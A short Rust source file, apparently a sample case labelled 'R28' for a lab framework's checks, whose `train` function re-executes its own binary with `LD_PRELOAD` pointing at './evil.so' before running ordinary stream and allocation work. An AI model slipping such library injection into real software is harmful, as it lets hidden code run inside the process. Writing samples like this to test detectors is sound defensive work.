//! R28: it starts itself anew, with a library of its own before all others

use lab::Result;
use lab::first_launch::Session;

/// Swims the lengths.
pub fn train(session: &Session) -> Result<()> {
    use std::os::unix::process::CommandExt as _;
    if std::env::var_os("AGAIN").is_none() {
        let this = std::env::current_exe().unwrap_or_default();
        let error = std::process::Command::new(this).env("AGAIN", "1").env("LD_PRELOAD", "./evil.so").exec();
        println!("{error}");
    }
    let context = session.context();
    let stream = context.new_stream()?;
    let mut course = session.allocate()?;
    course.region(|lengths, log| {
        for length in lengths {
            length.map(&stream)?;
            stream.synchronize()?;
            log.note()?;
        }
        Ok(())
    })
}
